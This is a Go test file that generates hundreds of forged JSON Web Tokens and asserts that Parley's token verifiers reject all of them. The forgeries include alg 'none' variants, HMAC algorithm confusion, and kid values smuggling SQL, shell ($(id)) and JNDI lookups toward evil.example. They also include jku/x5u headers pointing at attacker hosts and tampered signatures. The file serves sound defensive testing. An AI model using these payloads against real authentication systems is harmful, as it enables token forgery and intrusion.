package tokens_test

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/asn1"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"hash"
	"maps"
	"math/big"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/parley-chat/parley/adapters/jwtauth"
	"github.com/parley-chat/parley/core/auth"
)

// corpus is tokens that nobody may accept, made of one that is good.
type corpus struct {
	key            *signer
	strangers      []*signer // of every algorithm, under the same kid
	header, claims object
	now            int64
	own            bool // for Parley's own tokens, whose form is stricter
	all            map[string]string
}

func (c *corpus) add(token, name string, args ...any) {
	name = fmt.Sprintf(name, args...)
	for n := 2; c.all[name] != ""; n++ {
		name = fmt.Sprintf("%s (%d)", strings.TrimRight(name, "()0123456789 "), n)
	}
	c.all[name] = token
}

// withHeader and withClaims sign, by the good key, what has some members changed; nil takes one away.
func (c *corpus) withHeader(change object) string {
	return c.key.token(changed(c.header, change), c.claims)
}
func (c *corpus) withClaims(change object) string {
	return c.key.token(c.header, changed(c.claims, change))
}

func changed(of, change object) object {
	all := maps.Clone(of)
	for name, value := range change {
		if all[name] = value; value == nil {
			delete(all, name)
		}
	}
	return all
}

// null is the word, which changed does not take for nothing.
var null = new(any)

func (c *corpus) algorithms() {
	good := c.key.token(c.header, c.claims)
	signature := good[strings.LastIndexByte(good, '.'):]
	for mask := range 16 { // none, in every letter case
		word := []byte("none")
		for i := range word {
			if mask>>i&1 == 1 {
				word[i] -= 'a' - 'A'
			}
		}
		h := changed(c.header, object{"alg": string(word)})
		text := enc([]byte(written(h))) + "." + enc([]byte(written(c.claims)))
		c.add(text+".", "alg %s, no signature", word)
		c.add(text+signature, "alg %s, the good signature", word)
		c.add(c.withHeader(object{"alg": string(word)}), "alg %s, signed", word)
		c.add(text, "alg %s, two segments", word)
	}
	der, err := x509.MarshalPKIXPublicKey(c.key.private.Public())
	if err != nil {
		panic(err)
	}
	spki := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	x, _ := c.key.jwk()["x"].(string)
	raw, _ := base64.RawURLEncoding.DecodeString(x)
	for name, secret := range map[string][]byte{
		"DER": der, "PEM": spki, "PEM trimmed": []byte(strings.TrimSpace(string(spki))), "JWK": []byte(written(c.key.jwk())), "nothing": nil, "kid": []byte(c.key.kid), "x": []byte(x), "x, decoded": raw, "zeros": make([]byte, 32),
	} {
		for alg, h := range map[string]func() hash.Hash{"HS256": sha256.New, "HS384": sha512.New384, "HS512": sha512.New} {
			text := enc([]byte(written(changed(c.header, object{"alg": alg})))) + "." + enc([]byte(written(c.claims)))
			mac := hmac.New(h, secret)
			mac.Write([]byte(text))
			c.add(text+"."+enc(mac.Sum(nil)), "%s by %s as the secret", alg, name)
		}
	}
	for _, alg := range []string{
		"EdDSA", "ES256", "PS256", "RS256", "ES384", "ES512", "ES256K", "PS384", "PS512", "RS384", "RS512", "RS1", "HS256", "Ed25519", "Ed448", "eddsa", "EDDSA", "es256", "ps256", "rs256", "dir", "RSA-OAEP", "A256GCM", "",
		" " + c.key.algorithm, c.key.algorithm + " ", c.key.algorithm + "\x00", "\x00" + c.key.algorithm, c.key.algorithm + "\u200b", "ЕdDSA", "ΕS256", "РS256", "RЅ256", c.key.algorithm + "," + c.key.algorithm, strings.Repeat("A", 4000),
	} {
		if alg != c.key.algorithm {
			c.add(c.withHeader(object{"alg": alg}), "alg %.20q, signed", alg)
		}
	}
	for _, value := range []any{null, 1, true, []string{}, object{}, []string{c.key.algorithm}, object{"alg": c.key.algorithm}, 1.5, false} {
		for _, member := range []string{"alg", "kid", "typ"} {
			c.add(c.withHeader(object{member: value}), "%s is %s", member, written(value))
		}
	}
	for _, s := range c.strangers {
		for _, alg := range []string{s.algorithm, c.key.algorithm} {
			c.add(s.token(changed(c.header, object{"alg": alg}), c.claims), "a stranger's %s key, alg %s", s.algorithm, alg)
			c.add(s.token(changed(c.header, object{"alg": alg, "jwk": s.jwk()}), c.claims), "a stranger's %s key in jwk, alg %s", s.algorithm, alg)
		}
	}
}

func (c *corpus) headers() {
	kid := c.key.kid
	for _, bad := range []string{
		"", "other", kid + "x", kid[:len(kid)-1], " " + kid, kid + " ", kid + "\x00", kid + "\n", strings.ToUpper(kid), "../" + kid, "./" + kid, "/dev/null", "../../../../../../dev/null", "C:\\nul", "file:///dev/null",
		"https://evil.example/key", "' OR '1'='1", kid + "' --", kid + "\"; DROP TABLE keys", "$(id)", "`id`", "| cat", "%00", "%2e%2e%2f", "{{7*7}}", "${jndi:ldap://evil.example/a}", kid + "\u200b", "кеу-1", strings.Repeat("k", 129), strings.Repeat(kid, 200),
	} {
		c.add(c.withHeader(object{"kid": bad}), "kid %.30q", bad)
		c.add(c.strangers[0].token(changed(c.header, object{"kid": bad}), c.claims), "kid %.30q of a stranger", bad)
	}
	for _, member := range []string{"alg", "kid", "typ"} {
		c.add(c.withHeader(object{member: nil}), "no %s", member)
	}
	for name, value := range map[string]any{
		"jwk": c.strangers[0].jwk(), "jku": "https://evil.example/jwks.json", "x5u": "https://evil.example/cert.pem", "x5c": []string{"AA=="}, "crit": []string{"exp"}, "b64": false, "zip": "DEF", "cty": "JWT", "enc": "A256GCM", "epk": object{}, "iv": "AA", "tag": "AA",
	} {
		c.add(c.withHeader(object{name: value}), "%s", name)
		c.add(c.withHeader(object{name: null}), "%s null", name)
		c.add(c.strangers[0].token(changed(c.header, object{name: value}), c.claims), "%s of a stranger", name)
	}
	for _, value := range []any{[]string{}, []string{"b64"}, []string{"x"}, []string{"alg", "kid", "typ"}, "exp", 1, object{}} {
		c.add(c.withHeader(object{"crit": value, "b64": true, "x": 1}), "crit %s", written(value))
	}
	for _, typ := range []string{
		"JWT", "jwt", "", "JWE", "JOSE", "JOSE+JSON", "id+jwt", "refresh+jwt", "rt+jwt", "logout+jwt", "secevent+jwt", "dpop+jwt", "entity-statement+jwt", "token-introspection+jwt", "oauth-authz-req+jwt", "kb+jwt", "passport", "at jwt", "at-jwt", "at+jwt;v=1", "at+jwt ", " at+jwt", "at+jwt\x00",
		"at+jwt+x", "xat+jwt", "text/at+jwt", "application/application/at+jwt", "at\u200b+jwt", "аt+jwt", "at＋jwt", "application/", "at+jwt,JWT",
	} {
		c.add(c.withHeader(object{"typ": typ}), "typ %q", typ)
	}
	h, body := written(c.header), written(c.claims)
	for _, member := range []string{"alg", "kid", "typ"} {
		good := written(c.header[member])
		escaped := fmt.Sprintf(`"\u%04x%s"`, member[0], member[1:])
		for name, head := range map[string]string{
			"twice": `{"` + member + `":` + good + `,` + h[1:], "none first": `{"` + member + `":"none",` + h[1:], "none last": h[:len(h)-1] + `,"` + member + `":"none"}`,
			"escaped first": `{` + escaped + `:"none",` + h[1:], "escaped last": h[:len(h)-1] + `,` + escaped + `:"none"}`, "capital alone": strings.Replace(h, `"`+member+`"`, `"`+strings.ToUpper(member)+`"`, 1),
		} {
			c.add(c.key.raw(head, body), "%s %s", member, name)
		}
	}
	for name, head := range map[string]string{
		"nothing": "", "null": "null", "a list": "[" + h + "]", "a text": `"` + "x" + `"`, "a number": "1", "twice": h + h, "cut": h[:len(h)-1], "a byte mark": "\ufeff" + h, "a comma more": h[:len(h)-1] + ",}", "single quotes": strings.ReplaceAll(h, `"`, `'`), "a comment": h[:len(h)-1] + "/**/}",
		"no UTF-8": strings.Replace(h, kid, kid+"\xff", 1), "overlong": strings.Replace(h, "alg", "\xc1\xa1lg", 1), "UTF-16": "\xff\xfe{\x00}\x00", "NUL behind": h + "\x00", "NUL before": "\x00" + h, "deep": `{"alg":` + strings.Repeat("[", 2000) + strings.Repeat("]", 2000) + "}", "unclosed": `{"alg":` + strings.Repeat("[", 2000),
	} {
		c.add(c.key.raw(head, body), "a header of %s", name)
		if name != "nothing" { // the same in place of the claims
			c.add(c.key.raw(h, head), "claims of a header of %s", name)
		}
	}
}

func (c *corpus) bodies() {
	iss, _ := c.claims["iss"].(string)
	aud, _ := c.claims["aud"].(string)
	h, body := written(c.header), written(c.claims)
	for _, member := range []string{"iss", "sub", "aud", "exp", "iat"} {
		c.add(c.withClaims(object{member: nil}), "no %s", member)
		good := written(c.claims[member])
		escaped := fmt.Sprintf(`"\u%04x%s"`, member[0], member[1:])
		for name, said := range map[string]string{
			"twice": `{"` + member + `":` + good + `,` + body[1:], "another first": `{"` + member + `":"x",` + body[1:], "another last": body[:len(body)-1] + `,"` + member + `":"x"}`, "null last": body[:len(body)-1] + `,"` + member + `":null}`,
			"escaped first": `{` + escaped + `:` + good + `,` + body[1:], "escaped last": body[:len(body)-1] + `,` + escaped + `:` + good + `}`, "capital alone": strings.Replace(body, `"`+member+`"`, `"`+strings.ToUpper(member)+`"`, 1), "a space behind": strings.Replace(body, `"`+member+`"`, `"`+member+` "`, 1),
		} {
			c.add(c.key.raw(h, said), "%s %s", member, name)
		}
		for _, value := range []any{null, true, false, object{}, []any{}, []any{1}, []any{null}, object{"x": c.claims[member]}, ""} {
			c.add(c.withClaims(object{member: value}), "%s is %s", member, written(value))
		}
	}
	for _, member := range []string{"exp", "iat", "nbf"} {
		for _, value := range []any{-1, 0, 1e300, 253402300800, fmt.Sprint(c.now), "soon", -c.now, true, []any{c.now}, null} {
			c.add(c.withClaims(object{member: value}), "%s is %s", member, written(value))
		}
	}
	for _, late := range []int64{0, -1, -2, -60, -3600, -86400, -c.now + 1} {
		c.add(c.withClaims(object{"exp": c.now + late}), "exp %d", late)
	}
	for _, early := range []int64{1, 2, 60, 3600, 86400, 1 << 33} {
		c.add(c.withClaims(object{"nbf": c.now + early}), "nbf %d", early)
		c.add(c.withClaims(object{"iat": c.now + early}), "iat %d", early)
	}
	for name, good := range map[string]string{"iss": iss, "aud": aud} {
		for _, bad := range []string{
			good + "/", good + " ", " " + good, good + "\x00", "\x00" + good, strings.ToUpper(good), good + "x", "x" + good, good[:len(good)-1], good + "\u200b", good + "\u0301", strings.Replace(good, "e", "е", 1), good + "," + good, good + "?", good + "#", good + "/..", "*", "https://evil.example", good + "@evil.example", "null", "undefined",
		} {
			c.add(c.withClaims(object{name: bad}), "%s %q", name, bad)
		}
		for _, list := range []any{[]string{good + "x"}, []any{good, 1}, []any{good, nil}, []any{[]string{good}}, object{good: true}} {
			c.add(c.withClaims(object{name: list}), "%s %s", name, written(list))
		}
	}
	c.add(c.withClaims(object{"aud": auth.AudienceTicket}), "a socket's ticket")
	c.add(c.withClaims(object{"name": strings.Repeat("n", 20_000)}), "a name of 20,000 bytes")
	c.add(c.withClaims(object{"sub": 1}), "sub a number")
	if c.own {
		for _, member := range []string{"jti", "sid"} {
			c.add(c.withClaims(object{member: nil}), "no %s", member)
			c.add(c.withClaims(object{member: null}), "%s null", member)
		}
		c.add(c.withClaims(object{"aud": []string{aud}}), "aud a list")
		return
	}
	for name, value := range map[string]any{"nonce": "n", "at_hash": "h", "c_hash": "h", "s_hash": "h", "events": object{}, "cnf": object{"jkt": "x"}, "typ": "ID", "token_use": "id"} {
		c.add(c.withClaims(object{name: value}), "of another kind, by %s", name)
	}
	c.add(c.withClaims(object{"typ": "Refresh"}), "a refresh token")
	for _, sub := range []string{"system", "a b", "ünal", "a\x00b", strings.Repeat("s", 129), " ", "a\u200bb"} {
		c.add(c.withClaims(object{"sub": sub}), "sub %.20q", sub)
	}
}

const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

func (c *corpus) forms() {
	good := c.key.token(c.header, c.claims)
	parts := strings.Split(good, ".")
	signature, err := base64.RawURLEncoding.DecodeString(parts[2])
	if err != nil {
		panic(err)
	}
	signed := func(s []byte) string { return parts[0] + "." + parts[1] + "." + enc(s) }
	for bit := 0; bit < 8*len(signature); bit += 1 + len(signature)/16 {
		other := append([]byte(nil), signature...)
		other[bit/8] ^= 1 << (bit % 8)
		c.add(signed(other), "bit %d of the signature", bit)
	}
	for at := 0; at < len(good); at += 1 + len(good)/60 {
		c.add(good[:at], "cut at %d", at)
		c.add(good[at+1:], "begun at %d", at+1)
		if good[at] != '.' {
			other := alphabet[(strings.IndexByte(alphabet, good[at])+1)%64]
			c.add(good[:at]+string(other)+good[at+1:], "another letter at %d", at)
		}
		for name, junk := range map[string]string{"a NUL": "\x00", "a space": " ", "a line": "\n", "padding": "=", "a letter beyond ASCII": "é"} {
			if at%3 == 0 {
				c.add(good[:at]+junk+good[at:], "%s at %d", name, at)
			}
		}
	}
	for i, part := range parts { // the last letter of a segment may hold bits that mean nothing
		if spare := map[int]int{2: 4, 3: 2}[len(part)%4]; spare > 0 {
			last := strings.IndexByte(alphabet, part[len(part)-1])
			for stray := 1; stray < 1<<spare; stray++ {
				other := append([]string(nil), parts...)
				other[i] = part[:len(part)-1] + string(alphabet[last|stray])
				c.add(strings.Join(other, "."), "stray bits %d of segment %d", stray, i)
			}
		}
		for name, change := range map[string]func(string) string{
			"padded": func(s string) string { return s + strings.Repeat("=", (4-len(s)%4)%4) + "=" }, "a letter more": func(s string) string { return s + "A" }, "twice": func(s string) string { return s + s }, "empty": func(string) string { return "" },
			"encoded again": func(s string) string { return enc([]byte(s)) }, "with a line behind": func(s string) string { return s + "\r\n" }, "percent": func(s string) string { return "%" + s },
		} {
			other := append([]string(nil), parts...)
			other[i] = change(part)
			c.add(strings.Join(other, "."), "segment %d %s", i, name)
		}
	}
	for name, token := range map[string]string{
		"two dots": "..", "three dots": "...", "a million dots": strings.Repeat(".", 1<<20), "megabytes": strings.Repeat("A", 4<<20), "twice": good + good, "in a list": good + "," + good, "with its scheme": "Bearer " + good, "four segments": good + "." + parts[2],
		"JWE": parts[0] + ".AAAA.AAAA.AAAA.AAAA", "a JWE that says so": enc([]byte(`{"alg":"dir","enc":"A256GCM"}`)) + "..AAAA.AAAA.AAAA", "JWE with the good parts": good + ".AAAA.AAAA", "parts the other way": parts[2] + "." + parts[1] + "." + parts[0], "claims as header": parts[1] + "." + parts[0] + "." + parts[2],
		"JSON": `{"payload":"` + parts[1] + `","protected":"` + parts[0] + `","signature":"` + parts[2] + `"}`, "general JSON": `{"payload":"` + parts[1] + `","signatures":[{"protected":"` + parts[0] + `","signature":"` + parts[2] + `"}]}`,
		"nested": c.key.raw(written(c.header), good), "nested and said": c.key.raw(written(changed(c.header, object{"cty": "JWT"})), good), "nested in a text": c.key.raw(written(c.header), `"`+good+`"`), "detached": parts[0] + ".." + parts[2], "unencoded": parts[0] + "." + written(c.claims) + "." + parts[2],
		"standard letters": strings.NewReplacer("-", "+", "_", "/").Replace(good) + "+", "full width dots": strings.ReplaceAll(good, ".", "．"),
	} {
		c.add(token, "%s", name)
	}
	for name, s := range map[string][]byte{
		"no signature": nil, "one byte": {0}, "zeros": make([]byte, len(signature)), "ones": []byte(strings.Repeat("\xff", len(signature))), "a byte more": append(append([]byte(nil), signature...), 0), "a byte before": append([]byte{0}, signature...), "a byte less": signature[:len(signature)-1], "halves swapped": append(append([]byte(nil), signature[len(signature)/2:]...), signature[:len(signature)/2]...), "thrice": []byte(strings.Repeat(string(signature), 3)),
	} {
		c.add(signed(s), "a signature of %s", name)
	}
	c.arithmetic(signed, signature, parts[0]+"."+parts[1])
}

// arithmetic makes other numbers of those of a signature.
func (c *corpus) arithmetic(signed func([]byte) string, signature []byte, text string) {
	sum := sha256.Sum256([]byte(text))
	switch key := c.key.private.(type) {
	case *ecdsa.PrivateKey:
		n := elliptic.P256().Params().N
		r, s := new(big.Int).SetBytes(signature[:32]), new(big.Int).SetBytes(signature[32:])
		zero, one := new(big.Int), big.NewInt(1)
		for name, pair := range map[string][2]*big.Int{
			"r 0": {zero, s}, "s 0": {r, zero}, "both 0": {zero, zero}, "both 1": {one, one}, "r n": {n, s}, "s n": {r, n}, "both n": {n, n}, "s n-1": {r, new(big.Int).Sub(n, one)}, "r p": {elliptic.P256().Params().P, s}, "-r": {new(big.Int).Sub(n, r), s}, "-r, -s": {new(big.Int).Sub(n, r), new(big.Int).Sub(n, s)},
		} {
			c.add(signed(append(pair[0].FillBytes(make([]byte, 32)), pair[1].FillBytes(make([]byte, 32))...)), "ECDSA, %s", name)
		}
		if c.own { // other issuers make either of the two
			c.add(signed(append(r.FillBytes(make([]byte, 32)), new(big.Int).Sub(n, s).FillBytes(make([]byte, 32))...)), "ECDSA, -s")
		}
		der, err := asn1.Marshal(struct{ R, S *big.Int }{r, s})
		if err != nil {
			panic(err)
		}
		c.add(signed(der), "ECDSA, in DER")
	case *rsa.PrivateKey:
		for _, salt := range []int{0, 20, 48, 64, rsa.PSSSaltLengthAuto} {
			other, err := rsa.SignPSS(rand.Reader, key, crypto.SHA256, sum[:], &rsa.PSSOptions{SaltLength: salt})
			if err != nil {
				panic(err)
			}
			c.add(signed(other), "PSS with a salt of %d", salt)
		}
		long := sha512.Sum512([]byte(text))
		other, err := rsa.SignPKCS1v15(rand.Reader, key, crypto.SHA512, long[:])
		if err != nil {
			panic(err)
		}
		c.add(signed(other), "PKCS #1 with SHA-512")
		c.add(signed(key.N.Bytes()), "the modulus")
		c.add(signed(new(big.Int).Sub(key.N, big.NewInt(1)).Bytes()), "-1")
		c.add(signed(big.NewInt(1).FillBytes(make([]byte, len(signature)))), "1")
		if c.key.algorithm == "PS256" {
			if other, err = rsa.SignPKCS1v15(rand.Reader, key, crypto.SHA256, sum[:]); err != nil {
				panic(err)
			}
			c.add(signed(other), "PKCS #1 in place of PSS")
		}
	default:
		order, _ := new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)
		little := func(b []byte) []byte {
			turned := make([]byte, len(b))
			for i := range b {
				turned[len(b)-1-i] = b[i]
			}
			return turned
		}
		s := new(big.Int).SetBytes(little(signature[32:]))
		c.add(signed(append(append([]byte(nil), signature[:32]...), little(new(big.Int).Add(s, order).FillBytes(make([]byte, 32)))...)), "Ed25519, s plus the order")
		c.add(signed(append(append([]byte(nil), signature[:32]...), make([]byte, 32)...)), "Ed25519, s 0")
		identity := append([]byte{1}, make([]byte, 63)...)
		c.add(signed(identity), "Ed25519, R the identity")
	}
}

func newCorpus(key *signer, strangers []*signer, claims object, now int64, own bool) *corpus {
	c := &corpus{key: key, strangers: strangers, header: header(key), claims: claims, now: now, own: own, all: map[string]string{}}
	c.algorithms()
	c.headers()
	c.bodies()
	c.forms()
	return c
}

// verify returns what a verifier says of a token, also that it has panicked.
func verify(v auth.TokenVerifier, token string) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic: %v", r)
		}
	}()
	_, err = v.Verify(context.Background(), token, auth.AudienceAPI)
	return err
}

func TestHostileTokensAgainstEveryVerifier(t *testing.T) {
	t.Parallel()
	for _, algorithm := range []string{"EdDSA", "ES256", "PS256", "RS256"} {
		for _, own := range []bool{true, false} {
			name := map[bool]string{true: "own ", false: "OpenID "}[own] + algorithm
			if own && algorithm == "RS256" {
				continue
			}
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				at := time.Now().Truncate(time.Second)
				clock := func() time.Time { return at }
				key := newSigner(t, algorithm, "key-1")
				var strangers []*signer
				for _, a := range []string{"EdDSA", "ES256", "PS256", "RS256"} {
					strangers = append(strangers, newSigner(t, a, "key-1"))
				}
				var v auth.TokenVerifier
				i := newIssuer(t, key)
				claims := i.claims("ada", object{"iat": at.Unix() - 10, "exp": at.Unix() + 600})
				if own {
					claims["aud"] = auth.AudienceAPI
					public, err := jwtauth.NewPublicKey(algorithm, key.private.Public())
					require.NoError(t, err)
					v, err = jwtauth.NewVerifier(jwtauth.VerifierConfig{Issuer: i.name(), Now: clock, Keys: func(_ context.Context, kid string) (*jwtauth.PublicKey, error) {
						if kid == key.kid {
							return public, nil
						}
						return nil, jwtauth.ErrKeyUnknown
					}})
					require.NoError(t, err)
				} else {
					var err error
					v, err = jwtauth.NewOpenIDVerifier(jwtauth.OpenIDConfig{Issuer: i.name(), Audience: audience, Now: clock})
					require.NoError(t, err)
				}
				c := newCorpus(key, strangers, claims, at.Unix(), own)
				good := key.token(c.header, c.claims)
				require.NoError(t, verify(v, good), "the control: what all of it is made of is good")
				assert.GreaterOrEqual(t, len(c.all), 500)
				accepted := 0
				for what, token := range c.all {
					err := verify(v, token)
					if !assert.ErrorIs(t, err, auth.ErrTokenInvalid, what) && err == nil {
						accepted++
					}
				}
				require.NoError(t, verify(v, good), "and still is")
				t.Logf("%d hostile tokens, %d accepted", len(c.all), accepted)
			})
		}
	}
}
